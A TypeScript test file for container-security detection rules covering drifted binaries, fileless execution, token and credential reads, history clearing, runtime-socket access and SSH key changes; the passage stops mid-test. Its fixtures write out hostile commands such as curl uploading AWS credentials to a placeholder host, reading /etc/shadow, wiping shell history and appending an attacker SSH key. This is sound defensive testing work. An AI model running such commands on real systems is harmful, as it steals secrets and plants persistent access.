/**
 * The rules on what the kernel reads from the file itself (binary drift,
 * fileless execution) and on watched-file access: each on what it must
 * catch, on the evasions the kernel facts defeat (renamed copies, other
 * programs, other paths to the same file), and on close benign look-alikes.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Event__Output } from '../../../../../proto/generated/vigil/v1/Event';
import type { FileAccess__Output } from '../../../../../proto/generated/vigil/v1/FileAccess';
import type { HostRule } from '../../../../../controlplane/src/detections/rule';
import { binaryNotInImage } from '../../../../../controlplane/src/detections/rules/binary-not-in-image';
import { credentialsReadInContainer } from '../../../../../controlplane/src/detections/rules/credentials-read-in-container';
import { filelessExecution } from '../../../../../controlplane/src/detections/rules/fileless-execution';
import { runtimeSocketFromContainer } from '../../../../../controlplane/src/detections/rules/runtime-socket-from-container';
import { serviceAccountTokenRead } from '../../../../../controlplane/src/detections/rules/service-account-token-read';
import { shellHistoryCleared } from '../../../../../controlplane/src/detections/rules/shell-history-cleared';
import { sshAuthorizedKeysModified } from '../../../../../controlplane/src/detections/rules/ssh-authorized-keys-modified';
import { CONTAINER_ID, connectEvent, execEvent, fileEvent } from '../../../../helpers/synthetic-events';
import { proc, ruleContext } from '../../../../helpers/rule-context';

const IMAGE = 'registry.example.com/shop/web:1.4';
const inImage = (ev: Event__Output, image = IMAGE): Event__Output => ({ ...ev, container: ev.container!.id ? { ...ev.container!, image } : ev.container });

/** A file access by `exe argv`, pid `pid` (in-namespace `nsPid`). */
function access(exe: string, argv: string[], f: Partial<FileAccess__Output>, o: { pid?: number; nsPid?: number; containerId?: string; comm?: string } = {}): Event__Output {
  const ev = fileEvent(f, { pid: o.pid ?? 700, containerId: o.containerId });
  return inImage({ ...ev, process: { ...ev.process!, exe, argv, comm: o.comm ?? exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15), ns_pid: o.nsPid ?? o.pid ?? 700 } });
}

/** The container as the engine knows it: its entrypoint (pid 500, ns pid 1) ran these programs. */
const workload = (...programs: string[]) => ruleContext({ facts: { id: CONTAINER_ID, initPid: 500, initExecs: programs.map((filename) => ({ atMs: 0, filename, argv: [filename] })) } });

function fires(rule: HostRule, cases: [string, Event__Output, ReturnType<typeof ruleContext>?][]): void {
  for (const [what, ev, ctx] of cases) assert.ok(rule.match(ev, ctx ?? ruleContext()), `should fire: ${what}`);
}
function silent(rule: HostRule, cases: [string, Event__Output, ReturnType<typeof ruleContext>?][]): void {
  for (const [what, ev, ctx] of cases) assert.equal(rule.match(ev, ctx ?? ruleContext()), null, `should not fire: ${what}`);
}

describe('rule binary-not-in-image', () => {
  const exec = (filename: string, argv: string[], o: Parameters<typeof execEvent>[0] = {}) => inImage(execEvent({ filename, argv, containerId: CONTAINER_ID, ...o }));
  test('a file of the writable layer, whatever its name; a script written at run time; a binary in a scratch tmpfs', () => {
    fires(binaryNotInImage, [
      ['a binary copied in with cp', exec('/usr/local/bin/kubectl', ['kubectl', 'get', 'secrets'], { binary: { layer: 'LAYER_UPPER', name: 'kubectl' } })],
      ['a renamed copy of the shell', exec('/tmp/systemd-helper', ['/tmp/systemd-helper', '-c', 'id'], { binary: { layer: 'LAYER_UPPER', name: 'systemd-helper' } })],
      ['an image binary modified in place (copied up)', exec('/bin/ls', ['ls'], { binary: { layer: 'LAYER_UPPER', name: 'ls' } })],
      ['a downloaded script made executable, run by an image interpreter', exec('/tmp/x.sh', ['/tmp/x.sh'], { binary: { layer: 'LAYER_LOWER', name: 'busybox' }, script: { layer: 'LAYER_UPPER', name: 'x.sh' }, interpreter: '/bin/sh' })],
      ['a binary in an emptyDir /tmp', exec('/tmp/xmrig', ['/tmp/xmrig'], { binary: { layer: 'LAYER_NOT_OVERLAY', name: 'xmrig' } })],
      // Names a process gives itself: only the runtime's own parent makes an exec the runtime's.
      ['a dropped binary named runc', exec('/tmp/runc', ['/tmp/runc'], { binary: { layer: 'LAYER_UPPER', name: 'runc' } })],
      ['a dropped binary run through the image\'s dynamic loader', exec('/lib64/ld-linux-x86-64.so.2', ['/lib64/ld-linux-x86-64.so.2', '/tmp/xmrig', '-o', 'pool:3333'], { binary: { layer: 'LAYER_LOWER', name: 'ld-linux-x86-64.so.2' } })],
      ['the same through musl\'s', exec('/lib/ld-musl-x86_64.so.1', ['/lib/ld-musl-x86_64.so.1', '/dev/shm/x'], { binary: { layer: 'LAYER_LOWER', name: 'ld-musl-x86_64.so.1' } })],
      ['a dropped binary calling itself runc', exec('/usr/local/bin/x', ['runc', 'init'], { comm: 'runc:[2:INIT]', binary: { layer: 'LAYER_UPPER', name: 'x' } })],
      ['a dropped runc under a shell', { ...exec('/usr/local/bin/runc', ['runc', 'init'], { binary: { layer: 'LAYER_UPPER', name: 'runc' } }), ancestry: [proc(40, '/bin/sh', ['sh'])] }],
    ]);
  });
  test('not: image binaries and image scripts, the host, build images, volumes outside scratch dirs', () => {
    silent(binaryNotInImage, [
      ['an image binary', exec('/bin/busybox', ['sh'])],
      ['an image script', exec('/usr/local/bin/docker-entrypoint.sh', ['docker-entrypoint.sh'], { binary: { layer: 'LAYER_LOWER', name: 'bash' }, script: { layer: 'LAYER_LOWER', name: 'docker-entrypoint.sh' }, interpreter: '/bin/bash' })],
      ['the host', execEvent({ filename: '/usr/local/bin/new-tool', binary: { layer: 'LAYER_NOT_OVERLAY', name: 'new-tool' } })],
      ['an image builder', inImage(exec('/kaniko/executor', ['/kaniko/executor'], { binary: { layer: 'LAYER_UPPER', name: 'executor' } }), 'gcr.io/kaniko-project/executor:v1.23.0')],
      ['a CI agent, named as containerd names Docker Hub images', inImage(exec('/home/jenkins/agent/build/app', ['./app'], { binary: { layer: 'LAYER_UPPER', name: 'app' } }), 'docker.io/jenkins/inbound-agent:3206.vb_15dcf73f6a_9-1')],
      ['docker-in-docker by its full name', inImage(exec('/usr/local/bin/built', ['built'], { binary: { layer: 'LAYER_UPPER', name: 'built' } }), 'docker.io/library/docker:27-dind-rootless')],
      ['a binary on a mounted volume', exec('/opt/tools/run', ['/opt/tools/run'], { binary: { layer: 'LAYER_NOT_OVERLAY', name: 'run' } })],
      ['a layer that could not be read', exec('/bin/true', ['true'], { binary: { layer: 'LAYER_UNKNOWN', name: 'true' } })],
      ['an image program run through the dynamic loader', exec('/lib64/ld-linux-x86-64.so.2', ['/lib64/ld-linux-x86-64.so.2', '/usr/bin/python3', 'app.py'], { binary: { layer: 'LAYER_LOWER', name: 'ld-linux-x86-64.so.2' } })],
    ]);
  });
});

describe('rule fileless-execution', () => {
  test('a memory file or a deleted file, run by any name, on the host or in a container', () => {
    fires(filelessExecution, [
      ['memfd through /proc/self/fd', execEvent({ filename: '/proc/self/fd/3', argv: ['[kworker/0:1]'], binary: { memfd: true, links: 0, layer: 'LAYER_NOT_OVERLAY', name: 'memfd:x' }, viaFd: true })],
      ['execveat on a memfd in a container', inImage(execEvent({ filename: '/dev/fd/4', argv: ['sshd'], containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:' }, viaFd: true }))],
      ['a binary deleted after it was opened', execEvent({ filename: '/tmp/.x', argv: ['/tmp/.x'], binary: { deleted: true, links: 0, name: '.x' } })],
      // The memfd's name and the process's names are the caller's to choose.
      ['a memfd named as runc names its sealed copy', inImage(execEvent({ filename: '/proc/self/fd/3', argv: ['runc', 'init'], comm: 'runc:[2:INIT]', containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' }, viaFd: true }))],
      ['a descriptor run through the dynamic loader', execEvent({ filename: '/lib64/ld-linux-x86-64.so.2', argv: ['ld.so', '/proc/self/fd/3'], binary: { links: 1, name: 'ld-linux-x86-64.so.2' } })],
      ['a memfd exec calling itself runc in an exec session under conmon (the container\'s mount namespace)', { ...inImage(execEvent({ filename: '/proc/self/fd/3', argv: ['runc', 'init'], containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' }, viaFd: true })), ancestry: [proc(42, '/usr/bin/conmon', ['conmon'])] }, ruleContext({ facts: { id: CONTAINER_ID, initPid: 500, mntNs: 1 } })],
      ['an exec session that unshared a mount namespace of its own first (its pid namespace stays the container\'s)', { ...inImage(execEvent({ filename: '/proc/self/fd/3', argv: ['runc', 'init'], containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' }, viaFd: true })), namespaces: { mnt: 4026533333, pid: 2, net: 3 }, ancestry: [proc(44, '/usr/bin/runc', ['runc', 'exec'])] }, ruleContext({ facts: { id: CONTAINER_ID, initPid: 500, mntNs: 1, pidNs: 2 } })],
      ['the same under runc exec (CRI-O\'s exec sessions)', { ...inImage(execEvent({ filename: '/proc/self/fd/3', argv: ['runc'], containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:x' }, viaFd: true })), ancestry: [proc(43, '/usr/sbin/runc', ['runc', 'exec'])] }, ruleContext({ facts: { id: CONTAINER_ID, initPid: 500, mntNs: 1 } })],
      ['the same under a shell that calls itself runc', { ...execEvent({ filename: '/proc/self/fd/3', argv: ['crun'], binary: { memfd: true, links: 0, name: 'memfd:crun' }, viaFd: true }), ancestry: [proc(41, '/bin/sh', ['runc'])] }],
    ]);
  });
  test('not: runc and crun running their sealed copy, files on disk run through an fd', () => {
    silent(filelessExecution, [
      ['runc init', { ...execEvent({ filename: '/proc/self/exe', argv: ['runc', 'init'], comm: 'exe', binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' } }), ancestry: [proc(30, '/usr/sbin/runc', ['runc', '--root', '/run/containerd/runc/k8s.io', 'create'])] }],
      ['youki re-executing itself (every call), started by containerd\'s shim', { ...execEvent({ filename: '/proc/self/fd/4', argv: ['youki', 'create'], comm: '4', binary: { memfd: true, links: 0, name: 'memfd:pentacle_sealed' }, viaFd: true }), ancestry: [proc(31, '/usr/bin/containerd-shim-runc-v2', ['containerd-shim-runc-v2', '-namespace', 'k8s.io'])] }],
      ['rootless crun re-executing itself, started by podman', { ...execEvent({ filename: '/proc/self/exe', argv: ['crun', 'state'], binary: { memfd: true, links: 0, name: 'memfd:crun_cloned:/proc/self/exe' } }), ancestry: [proc(32, '/usr/bin/podman', ['podman', 'ps'])] }],
      ['runc init in the container\'s cgroup, still in the node\'s mount namespace', { ...inImage(execEvent({ filename: '/proc/self/exe', argv: ['runc', 'init'], containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' } })), namespaces: { mnt: 4026531841, pid: 4026531836, net: 4026531840 }, ancestry: [proc(33, '/usr/sbin/runc', ['runc', 'create'])] }, ruleContext({ facts: { id: CONTAINER_ID, initPid: 500, mntNs: 1, pidNs: 2 } })],
      ['a plain binary', execEvent({ filename: '/usr/bin/env' })],
      ['fexecve of a file on disk', execEvent({ filename: '/dev/fd/3', argv: ['tool'], viaFd: true, binary: { links: 1, name: 'tool' } })],
      ['a program on disk run through the dynamic loader', execEvent({ filename: '/lib64/ld-linux-x86-64.so.2', argv: ['ld.so', '/usr/bin/env'], binary: { links: 1, name: 'ld-linux-x86-64.so.2' } })],
    ]);
  });
});

describe('rule service-account-token-read', () => {
  const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
  test('a shell, cat, curl or a one-liner in the container; another pod\'s token read on the node', () => {
    fires(serviceAccountTokenRead, [
      ['cat from kubectl exec', access('/bin/cat', ['cat', token], { path: token }, { containerId: CONTAINER_ID, pid: 900, nsPid: 17 }), workload('/app/server')],
      ['a copy of cat under another name', access('/tmp/x', ['/tmp/x', token], { path: token }, { containerId: CONTAINER_ID, pid: 901, nsPid: 18 }), workload('/app/server')],
      ['the same program as the app, from an exec session', access('/usr/bin/python3.11', ['python3', '/tmp/x.py'], { path: token }, { containerId: CONTAINER_ID, pid: 906, nsPid: 23 }), workload('/usr/bin/python3.11')],
      ['a python one-liner in a python app', access('/usr/bin/python3.11', ['python3', '-c', `print(open("${token}").read())`], { path: token }, { containerId: CONTAINER_ID, pid: 902, nsPid: 19 }), workload('/usr/bin/python3.11')],
      ['the projected token path', access('/bin/busybox', ['head', '/var/run/secrets/tokens/vault'], { path: '/var/run/secrets/tokens/vault', watched: '/var/run/secrets/tokens/' }, { containerId: CONTAINER_ID, pid: 903, nsPid: 20 }), workload('/app/server')],
      ['another pod\'s token on the node', access('/usr/bin/find', ['find', '/var/lib/kubelet/pods', '-name', 'token', '-exec', 'cat', '{}', ';'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
      ['a pod\'s token reached from the node through /proc/<pid>/root', access('/bin/cat', ['cat', '/proc/4242/root/var/run/secrets/kubernetes.io/serviceaccount/token'], { path: token })],
      ['a link made to the token in a container', access('/bin/ln', ['ln', '-s', token, '/tmp/t'], { path: token, access: 'ACCESS_LINK', call: 'CALL_SYMLINK' }, { containerId: CONTAINER_ID, pid: 908, nsPid: 25 }), workload('/app/server')],
      ['the same by a copy named kubelet', access('/tmp/kubelet', ['kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
      ['the same by a process calling itself kubelet or runc', access('/usr/bin/python3', ['kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' }, { comm: 'runc:[2:INIT]' })],
    ]);
  });
  test('not: the entrypoint, its workers, the kubelet, a failed open, a write', () => {
    silent(serviceAccountTokenRead, [
      ['the entrypoint itself', access('/app/server', ['/app/server'], { path: token }, { containerId: CONTAINER_ID, pid: 500, nsPid: 1 }), workload('/app/server')],
      ['a worker running the entrypoint\'s program', { ...access('/usr/bin/python3.11', ['gunicorn: worker [app]'], { path: token }, { containerId: CONTAINER_ID, pid: 610, nsPid: 9 }), ancestry: [proc(500, '/usr/bin/python3.11', ['gunicorn: master'])] }, workload('/usr/bin/python3.11')],
      ['the kubelet mounting the volume', access('/usr/bin/kubelet', ['/usr/bin/kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
      ['a failed open', access('/bin/cat', ['cat', token], { path: token, result: -2 }, { containerId: CONTAINER_ID, pid: 904, nsPid: 21 }), workload('/app/server')],
      ['a write', access('/bin/cat', ['cat', token], { path: token, access: 'ACCESS_WRITE' }, { containerId: CONTAINER_ID, pid: 905, nsPid: 22 }), workload('/app/server')],
      ['an entrypoint reading its namespace (no secret)', access('/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace'], { path: '/var/run/secrets/kubernetes.io/serviceaccount/namespace' }, { containerId: CONTAINER_ID, pid: 907, nsPid: 24 }), workload('/app/server')],
    ]);
  });
});

describe('rule credentials-read-in-container', () => {
  test('keys, hashes, kubeconfigs and cloud credentials read by what someone ran in the container', () => {
    fires(credentialsReadInContainer, [
      ['/etc/shadow', access('/bin/cat', ['cat', '/etc/shadow'], { path: '/etc/shadow', watched: '/etc/shadow', category: 'shadow' }, { containerId: CONTAINER_ID, pid: 910, nsPid: 30 }), workload('/app/server')],
      ['an SSH private key', access('/usr/bin/base64', ['base64', '/root/.ssh/id_ed25519'], { path: '/root/.ssh/id_ed25519', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 911, nsPid: 31 }), workload('/app/server')],
      ['the kubelet\'s kubeconfig through a host mount', access('/bin/sh', ['sh'], { path: '/etc/kubernetes/kubelet.conf', watched: '/etc/kubernetes/', category: 'kubelet-credentials' }, { containerId: CONTAINER_ID, pid: 912, nsPid: 32 }), workload('/app/server')],
      ['AWS credentials', access('/usr/bin/curl', ['curl', '-F', 'f=@/root/.aws/credentials', 'https://x.example'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 913, nsPid: 33 }), workload('/app/server')],
      ['an SSH key read by a process calling itself sshd', access('/bin/cat', ['sshd', '/root/.ssh/id_rsa'], { path: '/root/.ssh/id_rsa', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 914, nsPid: 34, comm: 'sshd' }), workload('/app/server')],
      ['an EKS pod\'s web-identity token read by curl', access('/usr/bin/curl', ['curl', '-d', '@/var/run/secrets/eks.amazonaws.com/serviceaccount/token', 'https://x.example'], { path: '/var/run/secrets/eks.amazonaws.com/serviceaccount/token', watched: '/var/run/secrets/eks.amazonaws.com/serviceaccount/', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 917, nsPid: 37 }), workload('/app/server')],
      ['a registry login', access('/bin/cat', ['cat', '/root/.docker/config.json'], { path: '/root/.docker/config.json', watched: '/root/.docker/config.json', category: 'registry-credentials' }, { containerId: CONTAINER_ID, pid: 918, nsPid: 38 }), workload('/app/server')],
      ['a link made to /etc/shadow (reads through it are not seen)', access('/bin/ln', ['ln', '-s', '/etc/shadow', '/tmp/s'], { path: '/etc/shadow', watched: '/etc/shadow', category: 'shadow', access: 'ACCESS_LINK', call: 'CALL_SYMLINK' }, { containerId: CONTAINER_ID, pid: 916, nsPid: 36 }), workload('/app/server')],
      ['an SSH key read by a copy named sshd', access('/tmp/sshd', ['/tmp/sshd'], { path: '/root/.ssh/id_rsa', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 915, nsPid: 35 }), workload('/app/server')],
    ]);
  });
  test('not: the workload reading what it was given, an SSH server reading its keys, the host, tokens (their own rule)', () => {
    silent(credentialsReadInContainer, [
      ['the app reading its cloud credentials', access('/app/server', ['/app/server'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 500, nsPid: 1 }), workload('/app/server')],
      ['sshd reading its host key', access('/usr/sbin/sshd', ['sshd: [accepted]'], { path: '/etc/ssh/ssh_host_ed25519_key', watched: '/etc/ssh/ssh_host_', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 920, nsPid: 40 }), workload('/usr/bin/supervisord')],
      ['the app under tini reading what it was given', { ...access('/app/server', ['/app/server'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 501, nsPid: 7 }), ancestry: [proc(500, '/sbin/tini', ['tini', '--', '/app/server'])] }, workload('/sbin/tini', '/app/server')],
      ['login on the host', access('/usr/sbin/sshd', ['sshd'], { path: '/etc/shadow', watched: '/etc/shadow', category: 'shadow' })],
      ['the keys let in, read by cat', access('/bin/cat', ['cat', '/root/.ssh/authorized_keys'], { path: '/root/.ssh/authorized_keys', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 930, nsPid: 50 }), workload('/app/server')],
      ['known_hosts read by ssh', access('/usr/bin/ssh', ['ssh', 'git@example.com'], { path: '/root/.ssh/known_hosts', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 933, nsPid: 53 }), workload('/app/server')],
      ['a public key read by git', access('/usr/bin/git', ['git', 'push'], { path: '/home/dev/.ssh/id_ed25519.pub', watched: '/home/*/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 934, nsPid: 54 }), workload('/app/server')],
      ['a token', access('/bin/cat', ['cat', 'token'], {}, { containerId: CONTAINER_ID, pid: 921, nsPid: 41 }), workload('/app/server')],
    ]);
  });
});

describe('rule shell-history-cleared', () => {
  const hist = (access: FileAccess__Output['access']) => ({ path: '/root/.bash_history', watched: '/root/.bash_history', category: 'shell-history', access });
  test('deleted, replaced, or truncated by a command, on the host or in a container', () => {
    fires(shellHistoryCleared, [
      ['rm', access('/bin/rm', ['rm', '-f', '/root/.bash_history'], hist('ACCESS_DELETE'))],
      ['a link to /dev/null over it', access('/bin/ln', ['ln', '-sf', '/dev/null', '/root/.bash_history'], hist('ACCESS_REPLACE'))],
      ['truncate -s0', access('/usr/bin/truncate', ['truncate', '-s0', '/root/.bash_history'], hist('ACCESS_TRUNCATE'), { containerId: CONTAINER_ID })],
      ['a redirection in sh -c', access('/bin/bash', ['bash', '-c', 'cat /dev/null > ~/.bash_history'], hist('ACCESS_TRUNCATE'))],
      ['a python one-liner', access('/usr/bin/python3', ['python3', '-c', 'open("/root/.bash_history","w")'], hist('ACCESS_TRUNCATE'))],
      ['an empty file moved over it', access('/bin/mv', ['mv', '/tmp/empty', '/root/.bash_history'], { ...hist('ACCESS_REPLACE'), call: 'CALL_RENAME', other_name: '/tmp/empty' })],
      ['renamed away', access('/bin/mv', ['mv', '/root/.bash_history', '/tmp/h'], { ...hist('ACCESS_DELETE'), call: 'CALL_RENAME', other_name: '/tmp/h' })],
      ['a shell script truncating it', access('/bin/bash', ['bash', '/tmp/clean.sh'], hist('ACCESS_TRUNCATE'))],
      ['commands piped into bash -s', access('/bin/bash', ['bash', '-s'], hist('ACCESS_TRUNCATE'))],
      ['a login shell running a script', access('/bin/bash', ['bash', '-l', '-O', 'extglob', '/tmp/clean.sh'], hist('ACCESS_REPLACE'))],
      ['a backup renamed onto it (arrives as the backup\'s deletion)', access('/bin/mv', ['mv', '/root/.bash_history.bak', '/root/.bash_history'], { ...hist('ACCESS_DELETE'), path: '/root/.bash_history.bak', call: 'CALL_RENAME', other_name: '/root/.bash_history' })],
      ['a python program calling itself bash, renaming onto it', access('/usr/bin/python3', ['bash'], { ...hist('ACCESS_DELETE'), path: '/root/.bash_history-1.tmp', call: 'CALL_RENAMEAT', other_name: '/root/.bash_history' })],
      ['a backup renamed onto it by relative names, in the home directory', access('/bin/mv', ['mv', '.bash_history.bak', '.bash_history'], { ...hist('ACCESS_DELETE'), path: '/root/.bash_history.bak', name: '.bash_history.bak', call: 'CALL_RENAMEAT2', other_name: '.bash_history' })],
      ['moved away into a directory (coreutils 9: the new name against the directory\'s fd)', access('/bin/mv', ['mv', '/root/.bash_history', '/tmp/'], { ...hist('ACCESS_DELETE'), call: 'CALL_RENAMEAT2', other_name: '.bash_history' })],
      ['moved away under its own name elsewhere', access('/bin/mv', ['mv', '/root/.bash_history', '/tmp/.bash_history'], { ...hist('ACCESS_DELETE'), call: 'CALL_RENAME', other_name: '/tmp/.bash_history' })],
      ['a copy of a shell in /tmp, called bash, truncating it', access('/tmp/sh', ['bash'], hist('ACCESS_TRUNCATE'))],
      ['zsh history removed in a container', access('/bin/rm', ['rm', '/home/ana/.zsh_history'], { ...hist('ACCESS_DELETE'), path: '/home/ana/.zsh_history', watched: '/home/*/.zsh_history' }, { containerId: CONTAINER_ID })],
    ]);
  });
  test('not: an interactive shell saving its history, appends, failures, other files', () => {
    silent(shellHistoryCleared, [
      ['bash saving history on exit', access('/bin/bash', ['-bash'], hist('ACCESS_TRUNCATE'))],
      ['an interactive login shell saving', access('/bin/bash', ['bash', '-l', '-i', '-o', 'vi'], hist('ACCESS_TRUNCATE'))],
      ['bash -is (interactive, reading stdin) saving', access('/bin/bash', ['bash', '-is'], hist('ACCESS_TRUNCATE'))],
      ['an Alpine login shell (busybox -sh) saving its history', access('/bin/busybox', ['-sh'], { ...hist('ACCESS_DELETE'), path: '/root/.ash_history.77.new', watched: '/root/.ash_history', call: 'CALL_RENAME', other_name: '/root/.ash_history' })],
      ['zsh rewriting its history', access('/usr/bin/zsh', ['zsh'], { ...hist('ACCESS_TRUNCATE'), path: '/home/ana/.zsh_history' })],
      // bash 5 (readline 8 histfile.c) writes .bash_history-PID.tmp and renames it over the file: the old name goes, the file is replaced.
      ['bash 5 saving: its copy renamed away', access('/bin/bash', ['-bash'], { ...hist('ACCESS_DELETE'), path: '/root/.bash_history-01234.tmp', call: 'CALL_RENAME', other_name: '/root/.bash_history' })],
      ['bash 5 saving: the file replaced by its copy', access('/bin/bash', ['-bash'], { ...hist('ACCESS_REPLACE'), call: 'CALL_RENAME', other_name: '/root/.bash_history-01234.tmp' })],
      ['zsh saving by copy', access('/usr/bin/zsh', ['zsh'], { ...hist('ACCESS_REPLACE'), path: '/home/ana/.zsh_history', watched: '/home/*/.zsh_history', call: 'CALL_RENAME', other_name: '/home/ana/.zsh_history.new' })],
      ['zsh dropping its lock', access('/usr/bin/zsh', ['zsh'], { ...hist('ACCESS_DELETE'), path: '/home/ana/.zsh_history.LOCK', watched: '/home/*/.zsh_history', call: 'CALL_UNLINK' })],
      ['an append', access('/bin/bash', ['bash'], hist('ACCESS_WRITE'))],
      ['rm of a missing file', access('/bin/rm', ['rm', '/root/.bash_history'], { ...hist('ACCESS_DELETE'), result: -2 })],
      ['another watched file', access('/bin/rm', ['rm', '/root/.ssh/known_hosts'], { path: '/root/.ssh/known_hosts', watched: '/root/.ssh/', category: 'ssh', access: 'ACCESS_DELETE' })],
    ]);
  });
});

describe('rule runtime-socket-from-container', () => {
  const unix = (path: string, exe = '/usr/bin/curl', image = IMAGE) => inImage({ ...connectEvent('', 0, { exe, argv: [exe, '--unix-socket', path, 'http://d/containers/json'], containerId: CONTAINER_ID }), connect: { result: 0, fd: 3, destination: { family: 'FAMILY_UNIX', address: path, port: 0, raw_family: 1 } } }, image);
  test('connect to a runtime socket mounted anywhere; opening, deleting or replacing a watched socket path', () => {
    fires(runtimeSocketFromContainer, [
      ['docker.sock', unix('/var/run/docker.sock')],
      ['containerd.sock under a host mount', unix('/host/run/containerd/containerd.sock', '/tmp/ctr')],
      ['crio.sock', unix('/run/crio/crio.sock')],
      ['BuildKit\'s daemon', unix('/run/buildkit/buildkitd.sock')],
      ['an open of the watched path', access('/bin/cat', ['cat', '/run/containerd/containerd.sock'], { path: '/run/containerd/containerd.sock', watched: '/run/containerd/containerd.sock', category: 'runtime-socket', result: -6 }, { containerId: CONTAINER_ID })],
    ]);
  });
  test('a connect that failed says it was tried, one under way says connected', () => {
    const refused = { ...unix('/var/run/docker.sock'), connect: { ...unix('/var/run/docker.sock').connect!, result: -13 } };
    assert.match(runtimeSocketFromContainer.match(refused, ruleContext())!.summary, /tried \(errno 13\) to connect to the runtime socket/);
    const pending = { ...unix('/var/run/docker.sock'), connect: { ...unix('/var/run/docker.sock').connect!, result: -115 } };
    assert.match(runtimeSocketFromContainer.match(pending, ruleContext())!.summary, /\/usr\/bin\/curl connected to the runtime socket/);
  });
  test('not: the host, trusted images, other unix sockets, TCP', () => {
    silent(runtimeSocketFromContainer, [
      ['the host', { ...unix('/run/containerd/containerd.sock'), container: { ...unix('/x').container!, id: '' } }],
      ['another socket', unix('/var/run/postgresql/.s.PGSQL.5432')],
      ['TCP to a port named like it', inImage(connectEvent('10.0.0.5', 2375, { containerId: CONTAINER_ID }))],
    ]);
    const trusted = ruleContext({ file: { lists: { trusted_images: ['datadog/agent:*'] }, rules: {}, intel: { feeds: [] } } });
    assert.equal(runtimeSocketFromContainer.match(unix('/var/run/docker.sock', '/usr/bin/agent', 'docker.io/datadog/agent:7'), trusted), null, 'as containerd names it');
    assert.equal(runtimeSocketFromContainer.match(unix('/var/run/docker.sock', '/usr/bin/agent', 'datadog/agent:7'), trusted), null);
  });
});

describe('rule ssh-authorized-keys-modified', () => {
  const keys = (access: FileAccess__Output['access'], path = '/root/.ssh/authorized_keys') => ({ path, watched: path.startsWith('/root/') ? '/root/.ssh/' : '/home/*/.ssh/', category: 'ssh', access });
  test('a key appended, the file rewritten or replaced, on the node or in a container, by any program', () => {
    fires(sshAuthorizedKeysModified, [
      ['echo >> in a container', access('/bin/sh', ['sh', '-c', 'echo ssh-ed25519 AAAA x@evil >> /root/.ssh/authorized_keys'], keys('ACCESS_WRITE'), { containerId: CONTAINER_ID })],
      ['rewritten on the node', access('/usr/bin/tee', ['tee', '/home/ops/.ssh/authorized_keys'], keys('ACCESS_TRUNCATE', '/home/ops/.ssh/authorized_keys'))],
      ['a file moved over it', access('/bin/mv', ['mv', '/tmp/k', '/root/.ssh/authorized_keys2'], { ...keys('ACCESS_REPLACE', '/root/.ssh/authorized_keys2'), call: 'CALL_RENAME', other_name: '/tmp/k' })],
      ['a copy of a cloud agent dropped in /tmp', access('/tmp/google_guest_agent', ['google_guest_agent'], keys('ACCESS_WRITE'))],
      ['a copy in ~/.ssh renamed onto it (arrives as the copy\'s deletion)', access('/bin/mv', ['mv', '/root/.ssh/k.tmp', '/root/.ssh/authorized_keys'], { ...keys('ACCESS_DELETE', '/root/.ssh/k.tmp'), call: 'CALL_RENAME', other_name: '/root/.ssh/authorized_keys' })],
      ['swapped with another file (mv --exchange)', access('/bin/mv', ['mv', '--exchange', '/root/.ssh/authorized_keys', '/root/.ssh/evil'], { ...keys('ACCESS_DELETE'), call: 'CALL_RENAMEAT2', flags: 2, other_name: '/root/.ssh/evil' })],
      ['a hard link made to it, to write through unseen', access('/bin/ln', ['ln', '/root/.ssh/authorized_keys', '/root/.k'], { ...keys('ACCESS_LINK'), call: 'CALL_LINK', other_name: '/root/.k' })],
      ['a keys directory a rules file watches (AuthorizedKeysFile /etc/ssh/authorized_keys/%u)', access('/usr/bin/tee', ['tee', '-a', '/etc/ssh/authorized_keys/ops'], { path: '/etc/ssh/authorized_keys/ops', watched: '/etc/ssh/authorized_keys/', category: 'ssh', access: 'ACCESS_WRITE' })],
      ['a python one-liner calling itself cloud-init', access('/usr/bin/python3', ['cloud-init', '-c', 'open("/root/.ssh/authorized_keys","a")'], keys('ACCESS_WRITE'))],
    ]);
  });
  test('not: sshd reading it at login, a cloud agent installing the instance\'s keys, other files of ~/.ssh, failures', () => {
    silent(sshAuthorizedKeysModified, [
